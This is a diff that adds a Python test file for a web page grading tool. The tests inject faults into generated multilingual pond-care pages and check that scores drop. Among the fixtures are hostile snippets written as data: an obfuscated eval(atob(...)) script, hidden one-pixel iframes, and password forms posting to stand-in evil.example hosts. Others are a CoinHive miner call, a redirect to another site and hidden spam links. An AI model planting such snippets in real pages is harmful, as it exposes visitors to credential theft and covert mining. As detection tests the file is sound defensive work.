@@ -1,0 +1,176 @@
+"""A fault that is added to a page, of any kind and in any number, never raises its score; grave ones cost much."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from statistics import median
+
+import pytest
+
+from pagegrade.model.report import Report
+from pagegrade.service.runs.analysis import artifacts_of_document
+from pagegrade.service.runs.evaluation import evaluate_artifacts
+
+URL = "https://www.pond.example/care"
+HEADERS = (("Content-Type", "text/html; charset=utf-8"), ("Strict-Transport-Security", "max-age=63072000"))
+TEXTS = {
+    "en": (
+        "The garden pond",
+        "A garden pond needs care in every season: cut back plants in autumn and feed fish in June.",
+    ),
+    "de": (
+        "Der Gartenteich",
+        "Ein Gartenteich braucht in jeder Jahreszeit Pflege: Schneiden Sie im Herbst die Gräser zurück.",
+    ),
+    "ru": ("Садовый пруд", "Когда зацветает сад, пора открыть пруд и накормить рыб в тёплой воде у самого берега."),
+    "el": ("Η λίμνη του κήπου", "Τον χειμώνα αφήνουμε μια τρύπα στον πάγο της λίμνης για να αναπνέουν τα ψάρια μας."),
+    "ar": ("بركة الحديقة", "في الشتاء نترك ثقبا في جليد البركة حتى تتنفس الأسماك في الماء البارد كل يوم."),
+    "ja": ("庭の池", "庭の池を作るには、まず日当たりと水はけを確認します。冬の前に落ち葉を取り除きます。"),
+    "hi": ("बगीचे का तालाब", "शीतकाल में तालाब की बर्फ में एक छेद छोड़ दें ताकि मछलियाँ साँस ले सकें और पौधे बचें।"),
+}
+NUMBERS = (1, 3, 7, 11, 20, 70)
+
+
+def page_of(language: str) -> str:
+    """An ordinary page in a language."""
+    title, text = TEXTS[language]
+    paragraphs = "".join(
+        f"<h2>{title} {number}</h2><p>{number}. {text} {text[:40]} {number * 7}</p>" for number in range(12)
+    )
+    return (
+        f'<!doctype html><html lang="{language}"><head><meta charset="utf-8"><title>{title} - pond.example</title>'
+        '<meta name="viewport" content="width=device-width, initial-scale=1">'
+        f'<meta name="description" content="{text}"><link rel="canonical" href="{URL}"></head><body>'
+        f'<header><a href="/">Pond</a></header><main><h1>{title}</h1>{paragraphs}'
+        f'<p><a href="/fish">{title} 2</a> <img src="/pond.jpg" alt="{title}" width="600" height="400"></p></main>'
+        "<footer><p>Pond, Street 1</p></footer></body></html>"
+    )
+
+
+PAGES = {language: page_of(language) for language in TEXTS}
+
+
+def report_of(html: str, headers: tuple[tuple[str, str], ...] = HEADERS) -> Report:
+    """The report of a page at hand."""
+    return evaluate_artifacts(artifacts_of_document(html.encode("utf-8", "replace"), url=URL, headers=headers))
+
+
+def into_body(added: Callable[[int], str]) -> Callable[[str, int], str]:
+    """A mutation that adds something at the end of the body, so many times."""
+    return lambda html, count: html.replace("</body>", "".join(map(added, range(count))) + "</body>")
+
+
+def into_head(added: str) -> Callable[[str, int], str]:
+    """The same at the end of the head."""
+    return lambda html, count: html.replace("</head>", added * count + "</head>")
+
+
+def in_texts(change: Callable[[str], str]) -> Callable[[str], str]:
+    """A change of every text between two tags of the body."""
+
+    def mutate(html: str) -> str:
+        head, body = html.split("<body>")
+        return f"{head}<body>" + re.sub(r">([^<]{2,})<", lambda match: f">{change(match[1])}<", body)
+
+    return mutate
+
+
+COUNTED: dict[str, Callable[[str, int], str]] = {
+    "hidden casino links": into_body(
+        lambda n: f"<div hidden><a href=https://c{n}.win{n}.example/>casino online {n}</a></div>"
+    ),
+    "links off the screen": into_body(
+        lambda n: (
+            f"<div style='position:absolute;left:-9999px'><a href=https://c{n}.win{n}.example/>casino {n}</a></div>"
+        )
+    ),
+    "links in the color of the page": into_body(
+        lambda n: (
+            "<div style='color:#fff;background:#fff'>"
+            f"<a style='color:#fff' href=https://c{n}.o{n}.example/>go {n}</a></div>"
+        )
+    ),
+    "images without alternatives": into_body(lambda n: f"<img src=/i{n}.png width=10 height=10>"),
+    "fields without labels": into_body(lambda n: f"<input name=f{n}>"),
+    "buttons without names": into_body(lambda _: "<button type=button></button>"),
+    "empty links": into_body(lambda n: f"<a href=/e{n}></a>"),
+    "filling text": into_body(lambda _: "<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod."),
+    "missing values": into_body(lambda _: "<p>undefined"),
+    "mojibake": into_body(lambda _: "<p>GrÃ¼ÃŸe aus MÃ¼nchen, schÃ¶ne Feiertage"),
+    "invisible text": into_body(lambda _: "<p style='color:#fff'>pond care cheap pond buy pond near me best pond"),
+    "stuffed words": into_body(lambda _: "<p>cheap pond buy pond cheap pond best pond cheap pond online pond"),
+    "warnings of PHP": into_body(
+        lambda n: f"<br><b>Warning</b>:  Undefined x in <b>/var/www/a.php</b> on line <b>{n}</b><br>"
+    ),
+    "scripts that hide what they run": into_body(lambda _: "<script>eval(atob('YWxlcnQoMSk='))</script>"),
+    "frames of others that no one sees": into_body(
+        lambda n: f"<iframe src=https://t{n}.evil.example/ width=1 height=1></iframe>"
+    ),
+    "password forms for another site": into_body(
+        lambda n: f"<form method=post action=https://e{n}.evil.example/><input type=password aria-label=P></form>"
+    ),
+    "elements for the mouse": into_body(lambda n: f"<div onclick=go()>{n}</div>"),
+    "plain http images": into_body(lambda n: f"<img alt=x width=1 height=1 src=http://img{n}.other.example/x.png>"),
+    "empty headings": into_body(lambda _: "<h2></h2>"),
+    "titles": into_head("<title>Other</title>"),
+    "noindex": into_head('<meta name="robots" content="noindex">'),
+}
+WHOLE: dict[str, Callable[[str], str]] = {
+    "emptied main": lambda html: re.sub(r"<main>.*</main>", "<main></main>", html, flags=re.DOTALL),
+    "filling text everywhere": in_texts(
+        lambda _: "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod."
+    ),
+    "an unfilled template": in_texts(lambda _: "{{ page.text }}"),
+    "misread text": in_texts(lambda text: text.encode().decode("cp1251", "replace")),
+    "hidden page": lambda html: html.replace("</head>", "<style>body{display:none}</style></head>"),
+    "white on white": lambda html: html.replace("</head>", "<style>body{color:#fff} a{color:#fff}</style></head>"),
+    "letters of a pixel": lambda html: html.replace("</head>", "<style>body{font-size:1px}</style></head>"),
+    "900 stuffed words": lambda html: html.replace("</main>", "<p>" + "cheap pond buy " * 300 + "</p></main>"),
+    "refresh to another site": lambda html: html.replace(
+        "</head>", '<meta http-equiv="refresh" content="0;url=https://lead.other.example/"></head>'
+    ),
+    "a canonical of another site": lambda html: html.replace(f'href="{URL}"', 'href="https://staging.host.example/x"'),
+    "a canonical of the home page": lambda html: html.replace(f'href="{URL}"', 'href="https://www.pond.example/"'),
+    "a coin miner": lambda html: html.replace("</body>", "<script>new CoinHive.Anonymous('k').start()</script></body>"),
+    "foreign keywords": lambda html: re.sub(
+        r"<title>.*?</title>(.*?content=)\"[^\"]*\"(><link)",
+        r'<title>베트남 카지노</title>\1"베트남 카지노 추천"\2',
+        html,
+    ).replace("</main>", "".join(f"<a href=/k{n}>베트남 카지노 {n}</a>" for n in range(40)) + "</main>"),
+}
+GRAVE = frozenset(WHOLE) - {"emptied main", "foreign keywords"}
+"""Emptied pages get no grade or are short; keywords in another script need a page whose language has one script."""
+
+
+@pytest.mark.parametrize("fault", COUNTED)
+def test_more_of_a_fault_is_never_better(fault: str) -> None:
+    """In any number, in any language: no page scores more than without it, nor more than with fewer."""
+    risen = []
+    for language, html in PAGES.items():
+        scores = [report_of(html).score, *(report_of(COUNTED[fault](html, count)).score for count in NUMBERS)]
+        known = [one for one in scores if one is not None]
+        if known != sorted(known, reverse=True):
+            risen.append((language, scores))
+
+    assert risen == []
+
+
+@pytest.mark.parametrize("fault", WHOLE)
+def test_grave_faults_cost_much(fault: str) -> None:
+    """The median fall over the languages; a page that gets no grade any more has fallen to nothing."""
+    falls = []
+    for html in PAGES.values():
+        before, after = report_of(html).score or 0, report_of(WHOLE[fault](html))
+        falls.append(before - (after.score or 0))
+
+    assert min(falls) >= 0
+    assert fault not in GRAVE or median(falls) >= 20
+
+
+def test_a_policy_that_blocks_the_page_costs_much() -> None:
+    """A header is a fault as well."""
+    html = PAGES["en"].replace("</head>", "<link rel=stylesheet href=/s.css></head>")
+    blocked = report_of(html, (*HEADERS, ("Content-Security-Policy", "default-src self")))
+
+    assert (report_of(html).score or 0) - (blocked.score or 0) >= 20
